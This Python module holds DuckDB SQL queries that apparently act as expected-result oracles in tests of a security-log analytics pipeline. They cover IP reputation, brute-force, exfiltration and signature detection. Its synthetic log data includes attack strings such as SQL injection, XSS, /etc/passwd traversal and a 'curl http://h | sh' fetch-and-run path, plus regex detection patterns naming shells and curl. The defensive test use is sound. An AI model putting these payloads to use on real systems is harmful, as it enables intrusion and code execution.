"""The SQL that DuckDB runs next to each registered query, over the same tables."""

from __future__ import annotations

LOGS = """
WITH base AS (
  SELECT event_id, user_id, event_type, value,
         CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k,
         make_timestamp(1704067200000000 + (epoch_us(ts) - 1704067200000000) // {time_div}) AS event_time
  FROM events),
logs AS (
  SELECT event_id, event_time,
    CASE WHEN event_id % 97 = 0 THEN NULL
         WHEN user_id % 3 = 0 THEN '10.0.0.1'
         ELSE concat('10.0.0.', CAST(2 + user_id % 8 AS STRING)) END AS source_ip,
    CASE WHEN event_id % 2 = 0 THEN concat('192.168.0.', CAST(user_id % 5 AS STRING), ':', CAST(20 + k % 60 AS STRING))
         ELSE concat('192.168.0.', CAST(user_id % 5 AS STRING)) END AS dest_ip,
    CASE event_id % 3 WHEN 0 THEN 'HTTP' WHEN 1 THEN 'TCP' ELSE 'SSH' END AS protocol,
    CASE WHEN event_type = 'error' THEN 'blocked' ELSE 'allowed' END AS action,
    CASE WHEN k = 0 THEN NULL WHEN k < 60 THEN 'benign' WHEN k < 85 THEN 'suspicious' ELSE 'malicious' END AS threat_label,
    CASE event_id % 3 WHEN 0 THEN 'application' WHEN 1 THEN 'firewall' ELSE 'ids' END AS log_type,
    CAST(round(value * 100) AS BIGINT) * 1000 AS bytes_transferred,
    CASE event_id % 11 WHEN 0 THEN 'sqlmap/1.7' WHEN 1 THEN 'nikto/2.5' WHEN 2 THEN NULL ELSE 'Mozilla/5.0' END AS user_agent,
    CASE event_id % 17
      WHEN 0 THEN concat('/item?id=', chr(39), ' OR 1=1--')
      WHEN 1 THEN '/item?id=1 UNION SELECT x FROM y'
      WHEN 2 THEN '/q?s=<script>alert(1)</script>'
      WHEN 3 THEN '/img?onerror=x'
      WHEN 4 THEN '/run?cmd=/bin/bash'
      WHEN 5 THEN '/../../etc/passwd'
      WHEN 6 THEN '/Admin/LOGIN.php'
      WHEN 7 THEN '/user/login'
      WHEN 8 THEN '/q?s=union select 1'
      WHEN 9 THEN NULL
      WHEN 10 THEN '/x?onload=f'
      WHEN 11 THEN '/sh?c=curl http://h | sh'
      ELSE '/index.html' END AS request_path
  FROM base)"""

SQL_A = "regexp_matches(request_path, '(?i)('' OR 1=1|UNION SELECT|sqlmap)')"
XSS_A = r"regexp_matches(request_path, '(?i)(<script>|alert\()')"
SQL_B = "regexp_matches(request_path, '(?i)('' OR 1=1|UNION SELECT|sqlmap|SELECT.*FROM|--)')"
XSS_B = r"regexp_matches(request_path, '(?i)(<script>|alert\(|onerror)')"
CMD_B = r"regexp_matches(request_path, '(?i)(bin/sh|bin/bash|powershell|curl.*\|)')"
TYPE_A = f"CASE WHEN {SQL_A} THEN 'SQL_Injection' WHEN {XSS_A} THEN 'XSS' ELSE 'Normal' END"
TYPE_B = (
    f"CASE WHEN {SQL_B} THEN 'SQL_Injection' WHEN {XSS_B} THEN 'XSS' "
    f"WHEN {CMD_B} THEN 'Command_Injection' ELSE 'Normal' END"
)
SIGNATURE = (
    r"'sqlmap|nikto|OR 1=1|UNION SELECT|DROP TABLE|\.\./|cmd=|eval\(|alert\(|onload=|etc/passwd'"
)
SIGNED = f"(regexp_matches(request_path, {SIGNATURE}) OR regexp_matches(user_agent, {SIGNATURE}))"
STAMP = "TIMESTAMP '2024-02-01 00:00:00'"
STAMP_OF_EXPIRY = "TIMESTAMP '2024-01-30 12:00:00'"
FACTS = "event_id, event_time, source_ip, threat_label"


def on_logs(select: str, time_div: int = 1) -> str:
    text = LOGS.format(time_div=time_div)
    # A select that starts with a comma adds further WITH entries.
    return f"{text}{select}" if select.startswith(",") else f"{text}\n{select}"


REPUTATION = """
  SELECT source_ip, count(*) AS total_requests,
         count(CASE WHEN threat_label <> 'benign' THEN 1 END) AS threat_count
  FROM logs GROUP BY source_ip"""

RATED = f""",
counted AS ({REPUTATION})
SELECT source_ip, total_requests, threat_count,
       CAST(threat_count AS DOUBLE) / total_requests AS threat_score,
       CASE WHEN CAST(threat_count AS DOUBLE) / total_requests > 0.7 THEN 'HIGH' ELSE 'LOW' END AS risk_level,
       source_ip AS row_key
FROM counted"""

TIMELINE = """
  SELECT date_trunc('hour', event_time) AS hour, threat_label, count(*) AS event_count,
         CAST(sum(bytes_transferred) AS DOUBLE) AS total_bytes
  FROM logs GROUP BY ALL"""

HOUR_KEY = "concat_ws('#', threat_label, strftime(hour, '%Y-%m-%d %H:%M:%S')) AS row_key"

TEXT_TIMES = """,
texts AS (
  SELECT *, CASE event_id % 19 WHEN 0 THEN 'bad'
              WHEN 1 THEN CAST(event_time AS VARCHAR)
              ELSE replace(CAST(event_time AS VARCHAR), ' ', 'T') END AS "timestamp"
  FROM logs)"""

BRUTE_FORCE = f""",
hits AS (
  SELECT time_bucket(INTERVAL 1 MINUTE, event_time) AS window_start, source_ip, count(*) AS failed_count
  FROM logs WHERE action = 'blocked' OR lower(request_path) LIKE '%login%'
  GROUP BY ALL HAVING count(*) >= 5)
SELECT source_ip, window_start, failed_count,
       CAST(least(CAST(1.0 AS FLOAT), CAST(failed_count / 20.0 AS FLOAT)) AS DOUBLE) AS threat_score,
       {STAMP} AS detected_at
FROM hits"""

EXFIL = f""",
hits AS (
  SELECT time_bucket(INTERVAL 10 SECOND, event_time) AS window_start, source_ip,
         CAST(sum(bytes_transferred) AS BIGINT) AS total_bytes
  FROM logs GROUP BY ALL HAVING sum(bytes_transferred) > 10000000)
SELECT source_ip, window_start, total_bytes,
       CAST(least(CAST(1.0 AS FLOAT), CAST(total_bytes / 100000000.0 AS FLOAT)) AS DOUBLE) AS threat_score,
       {STAMP} AS detected_at
FROM hits"""

SCORES = """
  SELECT source_ip, time_bucket(INTERVAL 5 MINUTE, event_time) AS window_start,
         CAST(avg(CASE threat_label WHEN 'malicious' THEN CAST(1.0 AS DOUBLE) WHEN 'suspicious' THEN CAST(0.5 AS DOUBLE)
                  ELSE CAST(0.1 AS DOUBLE) END) AS FLOAT) AS threat_score,
         CAST(count(*) AS INT) AS attack_count, max(event_time) AS last_seen
  FROM {source} GROUP BY ALL"""

BLOCKED = "CAST(threat_score AS DOUBLE) > CAST(0.7 AS DOUBLE) AS is_blocked"

IP_SCORES = f""",
scores AS ({SCORES.format(source='logs')})
SELECT *, {BLOCKED} FROM scores"""

SIGNATURES = f"""
SELECT source_ip, event_time, dest_ip, protocol, action, threat_label, log_type,
       bytes_transferred AS bytes_xfer, user_agent, request_path,
       CASE WHEN regexp_matches(user_agent, 'sqlmap|nikto') THEN 'scanner_tool'
            WHEN regexp_matches(request_path, 'UNION|SELECT|DROP|OR 1=1') THEN 'sqli'
            WHEN regexp_matches(request_path, '<script|alert|onload') THEN 'xss'
            ELSE 'signature_match' END AS attack_type,
       CAST(0.9 AS FLOAT) AS threat_score, {STAMP} AS window_start, {STAMP} AS window_end
FROM logs WHERE {SIGNED}"""

RECORD = """
SELECT event_time, source_ip, dest_ip, protocol, action, threat_label, log_type, user_agent,
       request_path, bytes_transferred{day_parts}
FROM logs"""

RANKED = """,
ranked AS (
  SELECT *, row_number() OVER (ORDER BY event_time, event_id) - 1 AS pos, count(*) OVER () AS n FROM logs)"""

ORACLES: dict[str, str] = {
    "ip_reputation": on_logs(f""",
counted AS ({REPUTATION})
SELECT source_ip, total_requests, threat_count,
       CAST(threat_count AS DOUBLE) / total_requests AS threat_score, source_ip AS row_key,
       TIMESTAMP '2024-01-30 00:00:00' AS detection_date
FROM counted"""),
    "ip_reputation_risk": on_logs(RATED),
    "attack_patterns_a": on_logs(f""",
typed AS (SELECT {TYPE_A} AS attack_type, CAST(event_time AS DATE) AS detection_date FROM logs)
SELECT attack_type, detection_date, count(*) AS attack_count,
       concat_ws('#', attack_type, CAST(detection_date AS VARCHAR)) AS row_key
FROM typed WHERE attack_type <> 'Normal' GROUP BY attack_type, detection_date"""),
    "attack_patterns_b": on_logs(f""",
typed AS (SELECT {TYPE_B} AS attack_type, CAST(event_time AS DATE) AS detection_date FROM logs)
SELECT attack_type, detection_date, count(*) AS attack_count, {STAMP} AS last_seen,
       concat_ws('#', attack_type, CAST(detection_date AS VARCHAR)) AS row_key
FROM typed WHERE attack_type <> 'Normal' GROUP BY attack_type, detection_date"""),
    "threat_timeline": on_logs(f""",
hourly AS ({TIMELINE})
SELECT hour, threat_label, event_count, {HOUR_KEY} FROM hourly"""),
    "threat_timeline_bytes": on_logs(f""",
hourly AS ({TIMELINE})
SELECT hour, threat_label, event_count, total_bytes, {HOUR_KEY} FROM hourly"""),
    "log_enriched": on_logs(TEXT_TIMES + """,
parsed AS (SELECT *, TRY_CAST("timestamp" AS TIMESTAMP) AS t FROM texts)
SELECT event_id, t AS event_time, CAST(t AS DATE) AS detection_date, CAST(t AS DATE) AS partition_date,
       date_trunc('hour', t) AS hour, coalesce(regexp_extract(dest_ip, ':([0-9]+)', 1), '') AS dest_port,
       bytes_transferred,
       concat_ws('#', threat_label, strftime(date_trunc('hour', t), '%Y-%m-%d %H:%M:%S')) AS row_key
FROM parsed"""),
    "dest_port": on_logs("""
SELECT regexp_extract(dest_ip, ':([0-9]+)', 1) AS dest_port, count(*) AS event_count
FROM logs GROUP BY 1"""),
    "rule_flags_a": on_logs(f"""
SELECT event_id, CASE WHEN {SQL_A} THEN 1 ELSE 0 END AS "SQL_Injection",
       CASE WHEN {XSS_A} THEN 1 ELSE 0 END AS "XSS", {TYPE_A} AS attack_type
FROM logs"""),
    "rule_flags_b": on_logs(f"""
SELECT event_id, CASE WHEN {SQL_B} THEN 1 ELSE 0 END AS "SQL_Injection",
       CASE WHEN {XSS_B} THEN 1 ELSE 0 END AS "XSS",
       CASE WHEN {CMD_B} THEN 1 ELSE 0 END AS "Command_Injection", {TYPE_B} AS attack_type
FROM logs"""),
    "label_weight": on_logs("""
SELECT event_id, CAST(CASE threat_label WHEN 'malicious' THEN 1.0 WHEN 'suspicious' THEN 0.5 ELSE 0.1 END AS DOUBLE) AS weight
FROM logs"""),
    "attacks_only": on_logs(f"""
SELECT event_id, {TYPE_B} AS attack_type FROM logs WHERE {TYPE_B} <> 'Normal'"""),
    "threats_only": on_logs(f"""
SELECT {FACTS} FROM logs WHERE threat_label IN ('malicious', 'suspicious')"""),
    "failed_access": on_logs(f"""
SELECT {FACTS} FROM logs WHERE action = 'blocked' OR lower(request_path) LIKE '%login%'"""),
    "signature_rows": on_logs(f"""
SELECT {FACTS} FROM logs WHERE {SIGNED}"""),
    "after_mark": on_logs(f"""
SELECT {FACTS} FROM logs WHERE CAST(event_time AS DATE) > DATE '2024-01-20'"""),
    "valid_days": on_logs(TEXT_TIMES + """
SELECT event_id, "timestamp", TRY_CAST("timestamp" AS TIMESTAMP) IS NOT NULL AS accepted FROM texts"""),
    "detect_brute_force": on_logs(BRUTE_FORCE, 60),
    "detect_signatures": on_logs(SIGNATURES, 60),
    "detect_data_exfil": on_logs(EXFIL, 60),
    "ip_scores": on_logs(IP_SCORES, 60),
    "top_ips": on_logs("""
SELECT source_ip, count(*) AS event_count FROM logs WHERE threat_label = 'malicious'
GROUP BY source_ip ORDER BY event_count DESC, source_ip ASC NULLS FIRST LIMIT 10"""),
    "volume_analysis": on_logs("""
SELECT threat_label, count(*) AS event_count, CAST(sum(bytes_transferred) AS BIGINT) AS total_bytes,
       avg(bytes_transferred) AS avg_bytes, max(bytes_transferred) AS max_bytes
FROM logs GROUP BY threat_label"""),
    "port_scans": on_logs("""
SELECT source_ip, time_bucket(INTERVAL 1 HOUR, event_time) AS window_start,
       count(DISTINCT CAST(regexp_extract(dest_ip, ':([0-9]+)', 1) AS INT)) AS distinct_ports, count(*) AS event_count
FROM logs WHERE regexp_extract(dest_ip, ':([0-9]+)', 1) <> ''
GROUP BY ALL HAVING count(DISTINCT CAST(regexp_extract(dest_ip, ':([0-9]+)', 1) AS INT)) >= 10""", 60),
    "serving_ip_risk": on_logs(f""",
counted AS ({REPUTATION}),
scores AS ({SCORES.format(source='logs')}),
live AS (SELECT * FROM scores QUALIFY row_number() OVER (PARTITION BY source_ip ORDER BY window_start DESC) = 1)
SELECT coalesce(b.source_ip, s.source_ip) AS source_ip, b.total_requests,
       CAST(b.threat_count AS DOUBLE) / b.total_requests AS batch_score,
       CAST(s.threat_score AS DOUBLE) AS live_score, s.last_seen,
       greatest(CAST(b.threat_count AS DOUBLE) / b.total_requests, CAST(s.threat_score AS DOUBLE)) AS risk_score,
       coalesce(greatest(CAST(b.threat_count AS DOUBLE) / b.total_requests, CAST(s.threat_score AS DOUBLE)) > CAST(0.7 AS DOUBLE), false) AS is_blocked
FROM counted b FULL JOIN live s ON b.source_ip IS NOT DISTINCT FROM s.source_ip""", 60),
    "upsert_latest": on_logs(RANKED + f""",
head AS (SELECT * FROM ranked WHERE pos < CAST(floor(n * 0.75) AS BIGINT)),
tail AS (SELECT * FROM ranked WHERE pos >= CAST(floor(n * 0.75) AS BIGINT)),
old AS ({SCORES.format(source='head')}),
new AS ({SCORES.format(source='tail')}),
merged AS (
  SELECT * FROM new
  UNION ALL
  SELECT * FROM old o WHERE NOT EXISTS (
    SELECT 1 FROM new x WHERE x.source_ip IS NOT DISTINCT FROM o.source_ip AND x.window_start = o.window_start))
SELECT *, {BLOCKED} FROM merged""", 60),
    "keep_versions": on_logs("""
SELECT source_ip, event_time, event_id,
       row_number() OVER (PARTITION BY source_ip ORDER BY event_time DESC, event_id DESC) AS version
FROM logs QUALIFY version <= 5"""),
    "expire": on_logs(f"""
SELECT {FACTS} FROM logs WHERE event_time > TIMESTAMP '2024-01-30 12:00:00' - INTERVAL 86400 SECOND"""),
    "max_day": on_logs("""
SELECT max(CAST(event_time AS DATE)) AS max_day FROM logs"""),
    "day_summary": on_logs("""
SELECT CAST(event_time AS DATE) AS day, count(*) AS event_count FROM logs GROUP BY 1"""),
    "day_count": on_logs("""
SELECT count(DISTINCT CAST(event_time AS DATE)) AS day_count FROM logs"""),
    "pending_days": on_logs("""
SELECT DISTINCT CAST(event_time AS DATE) AS day FROM logs WHERE CAST(event_time AS DATE) > DATE '2024-01-20' ORDER BY day"""),
    "merged_reputation": on_logs(RATED),
    "incremental_reputation": on_logs(RATED),
    "ordered_split": on_logs(RANKED + """
SELECT event_id, event_time, bytes_transferred,
       CASE WHEN pos < CAST(floor(n * 0.75) AS BIGINT) THEN 'batch' ELSE 'stream' END AS part
FROM ranked"""),
    "split_with_ties": on_logs(RANKED.replace("ORDER BY event_time, event_id", "ORDER BY date_trunc('hour', event_time)") + """
SELECT CASE WHEN pos < CAST(floor(n * 0.75) AS BIGINT) THEN 'batch' ELSE 'stream' END AS part, count(DISTINCT event_id) AS event_count,
       min(date_trunc('hour', event_time)) AS first_hour, max(date_trunc('hour', event_time)) AS last_hour
FROM ranked GROUP BY 1"""),
    "replay_chunks": on_logs(RANKED + """
SELECT event_id, event_time, least(pos // (n // 4), 3) AS chunk FROM ranked"""),
    "cells": on_logs(RATED.replace("\nSELECT", "\n, rated AS (SELECT", 1) + f"""),
hourly AS ({TIMELINE}),
keyed AS (SELECT *, {HOUR_KEY} FROM hourly)
SELECT row_key, 'info' AS family, 'total_requests' AS qualifier, CAST(total_requests AS VARCHAR) AS value FROM rated WHERE row_key IS NOT NULL
UNION ALL SELECT row_key, 'info', 'threat_count', CAST(threat_count AS VARCHAR) FROM rated WHERE row_key IS NOT NULL
UNION ALL SELECT row_key, 'info', 'threat_score', CAST(threat_score AS VARCHAR) FROM rated WHERE row_key IS NOT NULL
UNION ALL SELECT row_key, 'info', 'risk_level', risk_level FROM rated WHERE row_key IS NOT NULL
UNION ALL SELECT row_key, 'data', 'event_count', CAST(event_count AS VARCHAR) FROM keyed
UNION ALL SELECT row_key, 'data', 'total_bytes', CAST(total_bytes AS VARCHAR) FROM keyed WHERE total_bytes IS NOT NULL"""),
    "points": on_logs(RATED.replace("\nSELECT", "\n, rated AS (SELECT", 1) + """)
SELECT 'ip_reputation' AS measurement, source_ip AS tag_source_ip,
       CAST(CASE WHEN source_ip IS NULL THEN 0 ELSE 1 END AS INT) AS tag_count,
       total_requests, threat_count, threat_score, risk_level, TIMESTAMP '2024-01-30 00:00:00' AS time
FROM rated"""),
    "envelope_round_trip": on_logs(RECORD.format(day_parts="")),
    "clustered": on_logs("""
SELECT source_ip, event_time, event_id FROM logs ORDER BY source_ip, event_time DESC, event_id DESC"""),
    "day_folders": on_logs(RECORD.format(
        day_parts=", CAST(year(event_time) AS INT) AS year, CAST(month(event_time) AS INT) AS month, "
        "CAST(day(event_time) AS INT) AS day"
    )),
    "stream_brute_force": on_logs(BRUTE_FORCE, 60),
    "stream_signatures": on_logs(SIGNATURES, 60),
    "stream_data_exfil": on_logs(EXFIL, 60),
    "stream_ip_scores": on_logs(IP_SCORES, 60),
}

ORACLES |= {
    "incremental_patterns": ORACLES["attack_patterns_b"],
    "incremental_timeline": ORACLES["threat_timeline_bytes"],
    "late_files": ORACLES["merged_reputation"],
    "repartitioned_increment": ORACLES["attack_patterns_b"],
    "run_days": f"SELECT * FROM ({ORACLES['attack_patterns_a']}) WHERE detection_date > DATE '2024-01-27'",
    "pending_folders": ORACLES["pending_days"],
    "is_empty": on_logs("""
SELECT count(*) = 0 AS log_empty, count(*) FILTER (WHERE threat_label = 'unknown') = 0 AS unknown_empty FROM logs"""),
    "versions_of_patterns": on_logs(f""",
batches AS (SELECT unnest(range(8)) AS batch),
counts AS (
  SELECT {TYPE_B} AS attack_type, CAST(event_time AS DATE) AS detection_date, batch, count(*) AS attack_count
  FROM logs JOIN batches ON event_id % 8 <= batch WHERE {TYPE_B} <> 'Normal' GROUP BY ALL)
SELECT attack_type, detection_date, attack_count, concat_ws('#', attack_type, CAST(detection_date AS VARCHAR)) AS row_key,
       CAST(row_number() OVER (PARTITION BY attack_type, detection_date ORDER BY batch DESC) AS INT) AS version
FROM counts QUALIFY version <= 5"""),
    "read_day": on_logs(RECORD.format(day_parts="") + " WHERE CAST(event_time AS DATE) = DATE '2024-01-30'"),
    "read_glob": f"SELECT * EXCLUDE (year, month) FROM ({ORACLES['day_folders']}) WHERE day BETWEEN 10 AND 19",
    "raw_inferred": on_logs("""
SELECT count(*) AS event_count, CAST(sum(bytes_transferred) AS BIGINT) AS total_bytes, max(event_time) AS newest FROM logs"""),
    "day_from_path": ORACLES["day_summary"],
    "dynamic_overwrite": on_logs("""
SELECT CAST(event_time AS DATE) AS day, count(*) AS event_count
FROM logs WHERE CAST(event_time AS DATE) <= DATE '2024-01-20' OR event_id % 2 = 0 GROUP BY 1"""),
    "view_parquet": ORACLES["ip_reputation_risk"],
    "default_time": on_logs(f"""
SELECT event_id, CASE WHEN event_id % 19 = 0 THEN {STAMP} ELSE event_time END AS event_time FROM logs"""),
    "formatted_time": on_logs("""
SELECT event_id, date_trunc('second', event_time) AS event_time FROM logs"""),
    "stream_port_scans": ORACLES["port_scans"],
    "compacted_scores": ORACLES["stream_ip_scores"],
    "live_threats": on_logs(f"{SIGNATURES} AND event_time > {STAMP_OF_EXPIRY} - INTERVAL 86400 SECOND"),
    "four_streams": "\nUNION ALL ".join(
        f"SELECT '{table}' AS table_name, count(*) AS row_count, count(DISTINCT source_ip) AS source_count FROM ({ORACLES[name]})"
        for table, name in (
            ("brute_force_alerts", "stream_brute_force"),
            ("realtime_threats", "stream_signatures"),
            ("data_exfil_alerts", "stream_data_exfil"),
            ("ip_threat_scores", "stream_ip_scores"),
        )
    ),
}

# What is published is what was shaped.
ORACLES |= {f"published_{name}": ORACLES[name] for name in ("cells", "points")}
